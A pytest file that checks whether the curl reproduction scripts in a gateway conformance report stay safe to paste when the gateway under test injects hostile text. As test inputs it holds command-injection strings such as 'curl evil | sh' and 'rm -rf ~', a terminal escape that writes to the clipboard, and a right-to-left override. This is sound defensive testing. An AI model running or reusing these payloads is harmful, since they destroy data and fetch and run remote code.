"""Item 1 of issue #14: a reproduction is safe to paste, whatever the gateway put in it.

The HTML report's copy button hands the reader the reproduction; the
gateway under test chose much of its text (its Id, the StatusPath the
follow-up went to, the status body quoted in the failure's reason). Each
test here plays a hostile gateway, then checks the script two ways: `bash
-n` parses it, and bash running it with every command stubbed out
(tests/hostile/shell.py) starts no command but curl, python3, printf,
base64 and sleep, and hands curl exactly the bytes that were recorded.
"""

from __future__ import annotations

import dataclasses
import json
import unicodedata
from pathlib import Path

import pytest

from conformance.reports.curl import reproduction
from tests.hostile.shell import ALLOWED, Replay, replay
from tests.reports.documents import GATEWAY, exchange
from tests.reports.tools import require
from tests.suite.runner import gateway_cmd

#: a newline ends a `#` comment: what follows would be a command
NEWLINE_ID = "x\ncurl evil | sh\n#"
#: visible ASCII only, so a real gateway can send it in X-Inference-Id and a real client sends it back
QUOTING_ID = "x';curl${IFS}evil|sh;'$(touch${IFS}pwned)`touch${IFS}pwned2`\"$(id)\"\\"
STATUS_PATH = "/status/mock?q=';rm -rf ~;'"
REASON = "the status body is not JSON: \x1b]52;c;cm0gLXJmIH4=\x07\n$(touch pwned3)\r`touch pwned4`\u202e'; rm -rf ~;'"


def accept(seq: int, inference_id: str, status_path: str) -> dict:
    document = {"Id": inference_id, "StatusPath": status_path, "ResultPath": "/result/mock"}
    recorded = exchange(seq, "POST", f"{GATEWAY}/v1/infer?mock-correlation=c1", at=0.0, took=0.02,
                        headers=[("Prefer", "respond-async"), ("Content-Type", "application/json"),
                                 ("Authorization", "<redacted>")],
                        body=b'{"prompt": "x"}', status=202, response_body=json.dumps(document).encode())
    return dataclasses.asdict(recorded)


def follow_up(seq: int, inference_id: str, url: str, extra: list[tuple[str, str]]) -> dict:
    recorded = exchange(seq, "GET", url, at=0.5, took=0.01, headers=[("X-Inference-Id", inference_id), *extra],
                        status=200, response_body=b"\x1b[2J")
    return dataclasses.asdict(recorded)


def assert_only_recorded_commands(result: Replay, status_url: str, inference_id: str) -> None:
    assert result.syntax_ok, result.syntax_error
    names = [call.name for call in result.calls]
    assert set(names) <= set(ALLOWED), f"the script started {names}"
    assert names.count("curl") == 2, names  # the submission and the follow-up, nothing the gateway wrote
    assert not result.created, f"the gateway's bytes ran as commands and made {result.created}"
    for command in result.commands:
        if not command.startswith("source "):
            first = command.split("=", 1)[0] if command.startswith("ID=") else command.split()[0]
            assert first in (*ALLOWED, "ID"), f"bash ran {command!r}"
    submission, status = result.named("curl")
    assert status_url in status.args, f"the follow-up went to {status.args}"
    assert f"X-Inference-Id: {inference_id}" in status.args  # the Id read back at replay time, as one argument
    assert "-u" not in submission.args


@pytest.mark.parametrize("inference_id", [NEWLINE_ID, QUOTING_ID], ids=["newline", "quoting"])
def test_ids_paths_headers_and_reasons_from_the_gateway_stay_data(inference_id: str, tmp_path: Path) -> None:
    require("bash")
    status_url = f"http://127.0.0.1:9{STATUS_PATH}"
    extra = [("X-Echo", "$(touch pwned5) `touch pwned6` \x1b[31m\n; touch pwned7"), ("X-Quote", "it's")]
    exchanges = [accept(1, inference_id, STATUS_PATH), follow_up(2, inference_id, status_url, extra)]
    script = reproduction([exchanges[1]], exchanges, title=[f"GW-STATUS-01 (MUST): {REASON}", "actual: " + REASON])
    assert script is not None
    result = replay(script, tmp_path, fake_answer=json.dumps({"Id": inference_id}), fake_id=inference_id)
    assert_only_recorded_commands(result, status_url, inference_id)
    assert "\x1b" not in script and "\r" not in script and "\u202e" not in script
    status = result.named("curl")[1]
    assert "X-Echo: $(touch pwned5) `touch pwned6` \x1b[31m\n; touch pwned7" in status.args


def test_a_redacted_userinfo_and_query_credential_come_back_as_variables(tmp_path: Path) -> None:
    require("bash")
    url = "http://<redacted>@127.0.0.1:9/status/mock?key=<redacted>&x=1"
    exchanges = [accept(1, "abc", "/status/mock"), follow_up(2, "abc", url, [])]
    script = reproduction([exchanges[1]], exchanges)
    assert script is not None and "URL_USERINFO" in script and "${KEY}" in script
    result = replay(script, tmp_path, fake_answer='{"Id": "abc"}', fake_id="abc")
    status = result.named("curl")[1]
    assert "http://127.0.0.1:9/status/mock?key=&x=1" in status.args  # the variables are empty in the sandbox
    assert "-u" in status.args


def test_a_hostile_gateway_run_gives_reproductions_that_run_nothing_of_its_own(tmp_path: Path) -> None:
    """End to end: a gateway whose Ids, StatusPath and status answers are attacks (tests/hostile/text_gateway.py)."""
    require("bash")
    from conformance.runs.gateway.run import run_suite

    document = run_suite(gateway_cmd=gateway_cmd("tests.hostile.text_gateway:Gateway", other=False),
                         select=["GW-STATUS-01"])
    result = document.requirement("GW-STATUS-01")
    assert result.outcome.value == "failed", result.reason
    failure = result.failures[0]
    assert failure.reproduction
    # what the reader sees is what runs: no escape sequence (a clipboard write, a cleared screen) and no
    # right-to-left override rides along in the text a copy button hands out
    unseen = {char for char in failure.reproduction if unicodedata.category(char) in ("Cc", "Cf") and char != "\n"}
    assert not unseen, f"the reproduction carries {sorted(map(hex, map(ord, unseen)))}"
    follow = [e for e in failure.exchanges if e.target == "gateway" and e.request.method == "GET"][-1]
    inference_id = dict(follow.request.headers)["X-Inference-Id"]
    assert "curl${IFS}evil" in inference_id  # the gateway did hand out its hostile Id
    replayed = replay(failure.reproduction, tmp_path, fake_answer=json.dumps({"Id": inference_id}), fake_id=inference_id)
    assert_only_recorded_commands(replayed, follow.request.url, inference_id)
